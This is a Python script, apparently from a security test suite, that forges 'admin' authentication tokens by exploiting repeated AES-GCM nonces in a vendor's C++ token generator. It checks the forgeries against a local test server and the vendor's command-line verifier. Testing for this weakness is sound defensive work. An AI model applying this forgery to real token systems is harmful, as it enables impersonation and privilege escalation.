#!/usr/bin/env python3
"""Forges a token for `admin` from GCM tokens of the vendor's C++ generator, which repeats nonces.

The tokens are those in tests/vectors/upstream.json. The attacker knows their claims (they were made
for him) but not the secret, which only the server and the command line know.
"""
import base64
import collections
import json
import os
import subprocess

import forbidden
from common import GCM, ROOT, NotTried, Server, arguments, main, report


def repeated_nonces() -> tuple:
    """Secret, app id and the tokens that share one nonce."""
    groups = collections.defaultdict(list)
    for vector in json.loads((ROOT / "tests/vectors/upstream.json").read_text())["vectors"]:
        if vector["mode"] == GCM and vector["wellformed"]:
            nonce = base64.b64decode(vector["token"][2:])[10:22]
            groups[nonce, vector["inputs"]["secret"], vector["inputs"]["app_id"]].append(vector)
    (_, secret, app_id), vectors = max(groups.items(), key=lambda group: len(group[1]))
    if len(vectors) < 3:
        raise NotTried("no tokens share a nonce")
    known = [forbidden.Known(one["token"], one["claims_text"].encode()) for one in vectors]
    return secret, int(app_id), known


def accepted_by_cli(options, secret: str, app_id: int, token: str) -> bool:
    env = {**os.environ, "ZEGO_APP_ID": str(app_id), "ZEGO_SERVER_SECRET": secret}
    flags = ["--require-authenticated"] if options.old else []
    words = [options.cli, "verify", *flags, token]
    done = subprocess.run(words, env=env, capture_output=True, text=True, timeout=20)
    if done.returncode not in (0, 1):
        raise NotTried("the command line cannot verify a token")
    return done.returncode == 0


def attack(options) -> int:
    secret, app_id, tokens = repeated_nonces()
    with Server(options.server, secret=secret, app_id=app_id) as server:
        server.check()
        if not accepted_by_cli(options, secret, app_id, server.mint("mallory", mode=GCM)):
            raise NotTried("the command line refuses a genuine token")
        made = forbidden.forged(tokens, app_id, "admin")
        if not made:
            raise NotTried("the key was not found")
        accepted = sum(server.accepts(token, user="admin") for token in made)
        by_cli = sum(accepted_by_cli(options, secret, app_id, token) for token in made)
        more = f" (from {len(tokens)} tokens with one nonce; command line: {by_cli} accepted)"
        return report("foreign GCM", len(made), server.requests, accepted + by_cli, more)


if __name__ == "__main__":
    main(attack, arguments(__doc__).parse_args())
